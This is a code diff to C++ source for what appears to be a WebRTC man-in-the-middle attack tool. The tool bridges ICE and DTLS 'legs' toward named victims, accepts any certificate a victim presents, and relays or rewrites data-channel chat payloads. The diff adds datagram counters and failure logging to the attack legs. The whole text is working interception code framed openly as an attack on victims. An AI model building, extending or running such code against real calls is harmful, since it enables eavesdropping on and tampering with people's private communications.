@@ -24,6 +24,8 @@ struct Leg {
   std::vector<std::string> pending_data;  // plaintext waiting for this leg to connect
   std::optional<std::pair<std::string, std::string>> remote_credentials;  // the victim's ufrag, pwd
   std::vector<sdp::Candidate> early_candidates;  // trickled before the victim's SDP
+  // What went through this leg, for the account of a leg that fails.
+  std::uint64_t datagrams_in = 0, datagrams_out = 0, sends_failed = 0;
   // Browsers carry data channels: SCTP packets inside DTLS (RFC 8261). Set
   // when the first record from this victim is one; then every record from it
   // is forwarded as it came (or with a chat payload rewritten) and decoded.
@@ -127,13 +129,15 @@ struct MitmBridge::RoomBridge {
                   event("attack.leg-ready", "ICE toward " + l.victim + ": " + p.local + " -> " + p.remote);
                   auto out = std::move(l.early_out);
                   l.early_out.clear();
-                  for (auto& d : out) l.ice->send(d);
+                  for (auto& d : out)
+                    if (l.ice->send(d)) ++l.datagrams_out;
                   if (l.dtls && l.dtls->role() == DtlsRole::Client) l.dtls->start();
                 },
             .on_datagram =
                 [this, i](std::span<const std::uint8_t> d) {
                   report().ciphertext_bytes += d.size();
                   Leg& l = legs[i];
+                  ++l.datagrams_in;
                   if (is_rtp_or_rtcp(d)) return relay_media(i, d);  // RFC 7983 §7
                   if (l.dtls) l.dtls->receive(d);
                   else if (l.early_in.size() < kMaxQueued) l.early_in.emplace_back(d.begin(), d.end());
@@ -197,8 +201,16 @@ struct MitmBridge::RoomBridge {
             .send =
                 [this, i](std::span<const std::uint8_t> d) {
                   Leg& l = legs[i];
-                  if ((!l.ready || !l.ice->send(d)) && l.early_out.size() < kMaxQueued)
-                    l.early_out.emplace_back(d.begin(), d.end());
+                  if (!l.ready) {
+                    if (l.early_out.size() < kMaxQueued) l.early_out.emplace_back(d.begin(), d.end());
+                    return;
+                  }
+                  // Once ICE is up, a datagram libnice does not take is lost,
+                  // as on a network: DTLS retransmits it.
+                  if (l.ice->send(d)) ++l.datagrams_out;
+                  else if (worth_logging(++l.sends_failed))
+                    event("attack.leg-send-failed", "libnice did not send a datagram toward " + l.victim + " (" +
+                                                        std::to_string(l.sends_failed) + " so far)");
                 },
             // The attacker accepts whatever the victim presents: it only needs
             // the victim to accept *its* certificate.
@@ -225,7 +237,10 @@ struct MitmBridge::RoomBridge {
                 },
             .on_failed =
                 [this, i](const std::string& why) {
-                  event("attack.leg-failed", legs[i].victim + ": " + why);
+                  const Leg& l = legs[i];
+                  event("attack.leg-failed", l.victim + ": " + why + " (" + std::to_string(l.datagrams_in) +
+                                                 " datagrams in, " + std::to_string(l.datagrams_out) + " out, " +
+                                                 std::to_string(l.sends_failed) + " not sent)");
                   maybe_grind();
                 },
             .on_data = [this, i](std::string_view data) { relay_data(i, std::string(data)); },
